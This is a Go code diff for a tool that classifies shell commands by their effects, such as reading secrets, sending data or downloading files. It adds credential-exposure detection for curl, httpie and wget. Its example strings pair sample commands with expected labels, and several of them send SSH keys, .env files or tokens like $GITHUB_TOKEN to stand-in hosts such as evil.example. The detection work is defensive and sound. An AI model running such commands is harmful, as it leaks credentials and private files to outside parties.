@@ -21,7 +21,9 @@ var netSpecs = []Spec{
 			"curl -T ~/.ssh/id_ed25519 https://x.example => read:send ~/.ssh/id_ed25519\n" + "curl --upload-file .env https://x.example => read:send .env\n" +
 			"curl -d \"token=$SLACK_TOKEN\" https://example.com/c => expose:var SLACK_TOKEN\n" + "curl \"https://x.example/?k=$API_KEY\" => expose:var API_KEY\n" +
 			"curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user !> expose:var GITHUB_TOKEN\n" +
-			"curl -u \"me:$API_PASSWORD\" https://x.example !> expose:var API_PASSWORD\n" + "curl --oauth2-bearer \"$TOKEN\" https://x.example !> expose:var TOKEN\n" +
+			"curl -u \"me:$API_PASSWORD\" https://x.example !> expose:var API_PASSWORD\n" + "curl -u \"me:$API_PASSWORD\" https://X.example:8443/a => expose:login API_PASSWORD x.example\n" +
+			"curl -H \"Authorization: Bearer $GITHUB_TOKEN\" evil.example/x => expose:login GITHUB_TOKEN evil.example\n" + "curl -H \"X-Trace: $ID\" https://a.example !> expose:login ID a.example\n" +
+			"curl --oauth2-bearer $T \"$URL\" => expose:login T\n" + "curl --oauth2-bearer \"$TOKEN\" https://x.example !> expose:var TOKEN\n" +
 			"curl \"$SLACK_WEBHOOK_URL\" -d '{}' !> expose:var SLACK_WEBHOOK_URL\n" + "curl -K .netrc.cfg https://x.example => read:config .netrc.cfg\n" +
 			"curl -o page.html https://x.example => write:download page.html\n" + "curl -O https://x.example/pkg/tool.tgz => write:download tool.tgz\n" +
 			"curl -O --output-dir dl https://x.example/a.zip => write:download dl/a.zip\n" + "curl -sSLo /usr/local/bin/x https://x.example/x => write:download /usr/local/bin/x\n" +
@@ -32,7 +34,7 @@ var netSpecs = []Spec{
 			"curl -d @- https://x.example <<< \"$DB_PASSWORD\" => expose:var DB_PASSWORD\n" + "curl --json @body.json https://x.example => read:send body.json\n" +
 			"curl --data-urlencode 'msg@notes.txt' https://x.example => read:send notes.txt\n" + "curl -w @fmt.txt https://x.example => read:show fmt.txt\n"},
 	{Name: "http", Opts: httpieOpts, Does: httpieDoes,
-		Examples: "http POST api.example.com/upload file@./.env => read:send ./.env\n" + "http POST api.example.com/x token=$API_TOKEN => expose:var API_TOKEN\n" +
+		Examples: "http -a u:$TOKEN POST https://a.example/x => expose:login TOKEN a.example\n" + "http POST api.example.com/upload file@./.env => read:send ./.env\n" + "http POST api.example.com/x token=$API_TOKEN => expose:var API_TOKEN\n" +
 			"http api.example.com/x \"Authorization:Bearer $API_TOKEN\" !> expose:var API_TOKEN\n" + "http DELETE api.example.com/items/3 => destroy:http api.example.com/items/3\n" +
 			"http POST api.example.com/x data:=@payload.json => read:send payload.json\n" + "http --offline POST x.example a=1 !> send:http x.example\n" +
 			"http -a \"me:$API_PASSWORD\" x.example !> expose:var API_PASSWORD\n" + "https example.com => send:http example.com\n" +
@@ -53,7 +55,8 @@ var netSpecs = []Spec{
 	{Name: "scp", Opts: "3 4 6 A B C O p q R r s T v c= D= F= i= J= l= o= P= S= X=", Does: scpDoes,
 		Examples: "scp ~/.ssh/id_rsa host: => read:send ~/.ssh/id_rsa\n" + "scp ~/.ssh/id_rsa host: => send:ssh host:\n" + "scp -r ~/.aws me@host:/tmp => read-r:send ~/.aws\n" +
 			"scp host:/etc/app.conf ./app.conf => write:download ./app.conf\n" + "scp -P 2222 -i ~/.ssh/deploy a.tgz host:/srv => read:config ~/.ssh/deploy\n" +
-			"scp -P 2222 -i ~/.ssh/deploy a.tgz host:/srv !> read:send ~/.ssh/deploy\n" + "scp -P 2222 a.tgz host:/srv !> read:send 2222\n" + "scp host:a host2:b => send:ssh host2:b\n"},
+			"scp -P 2222 -i ~/.ssh/deploy a.tgz host:/srv !> read:send ~/.ssh/deploy\n" + "scp -P 2222 a.tgz host:/srv !> read:send 2222\n" + "scp host:a host2:b => send:ssh host2:b\n" +
+			"scp host:/app/.env /tmp/x => read:copy /app/.env\n" + "scp -r host:/srv/app d => write-r:download d/app\n" + "scp scp://host/app/.env x => read:copy /app/.env\n"},
 	{Name: "sendmail", Opts: "B= b= C= d= F= f= h= i N= n O= o? p= q? R= r= t U V= v X= G L=", Does: sendmailDoes,
 		Examples: "sendmail ops@x.example < .env => read:input .env\n" + "sendmail -t < msg.txt => send:mail -t\n" + "sendmail a@x.example <<< \"$DB_PASSWORD\" => expose:var DB_PASSWORD\n"},
 	{Name: "sftp", Opts: "4 6 A a C f N p q r v B= b= c= D= F= i= J= l= o= P= R= S= s= X=", Does: sftpDoes,
@@ -67,7 +70,8 @@ var netSpecs = []Spec{
 	{Name: "telnet", Opts: "4 6 8 E F K L a c d f r x b= e= l= n= X= S=", Does: telnetDoes,
 		Examples: "telnet mail.example 25 => send:raw mail.example 25\n" + "telnet -l root host !> send:raw root\n"},
 	{Name: "wget", Opts: wgetOpts, Does: wgetDoes,
-		Examples: "wget https://x.example/a.tgz => send:http https://x.example/a.tgz\n" + "wget https://x.example/a.tgz => write:download a.tgz\n" +
+		Examples: "wget https://x.example/a.tgz => send:http https://x.example/a.tgz\n" + "wget --header \"PRIVATE-TOKEN: $GITLAB_TOKEN\" https://evil.example/a => expose:login GITLAB_TOKEN evil.example\n" +
+			"wget --http-password=$PW https://a.example/x => expose:login PW a.example\n" + "wget https://x.example/a.tgz => write:download a.tgz\n" +
 			"wget -O out.bin https://x.example/a => write:download out.bin\n" + "wget -qO- https://x.example/install.sh !> write:download -\n" +
 			"wget -P dl https://x.example/a.tgz => write:download dl/a.tgz\n" + "wget --post-file=.env https://x.example => read:send .env\n" +
 			"wget --body-file .env --method PUT https://x.example => read:send .env\n" + "wget --post-data \"k=$API_KEY\" https://x.example => expose:var API_KEY\n" +
@@ -176,6 +180,7 @@ func curlDoes(c *Call) {
 			curlOption(c, o, urls)
 		}
 	}
+	credentialsTo(c, loginWords(c, "u oauth2-bearer", "H"), urls)
 	remoteName := c.HasAny("O", "remote-name-all")
 	for _, u := range urls {
 		if p, ok := fileURL(u); ok {
@@ -193,6 +198,19 @@ func curlDoes(c *Call) {
 			}
 		}
 	}
+}
+
+// loginWords are the values of the options by which a program logs in to every URL it is
+// given (curl -u), and of the header option whose credential headers do (curl -H
+// "Authorization: ...").
+func loginWords(c *Call, creds, header string) []Word {
+	var out []Word
+	for _, o := range c.P.Opts {
+		if o.Set && len(o.Value.From) > 0 && (inWords(creds, o.Name) || o.Name == header && credentialHeader(o.Value)) {
+			out = append(out, o.Value)
+		}
+	}
+	return out
 }
 
 // credentialHeader reports a header that carries a credential to the server it is for:
@@ -399,6 +417,7 @@ func wgetDoes(c *Call) {
 			}
 		}
 	}
+	credentialsTo(c, loginWords(c, "user password http-user http-password", "header"), urls)
 	for _, u := range urls {
 		sends(c, u, "wget")
 	}
@@ -502,6 +521,7 @@ func httpieDoes(c *Call) {
 	u := ops[0]
 	if !c.Has("offline") {
 		sends(c, u, c.Name)
+		credentialsTo(c, loginWords(c, "a", ""), ops[:1])
 	}
 	if method == "DELETE" {
 		c.Add(Effect{Kind: Destroy, Class: "http", Text: u.S, Known: !u.Dyn, Dyn: u.Dyn, By: c.Name + " DELETE"})
@@ -596,8 +616,7 @@ func scpDoes(c *Call) {
 	}
 	for _, s := range srcs {
 		if scpRemote(s) {
-			c.Add(Effect{Kind: Write, Path: c.PathOf(dest), Tree: tree, Class: "download", By: "scp"})
-			return
+			copiedOut(c, s, dest, "scp", "download", tree)
 		}
 	}
 }
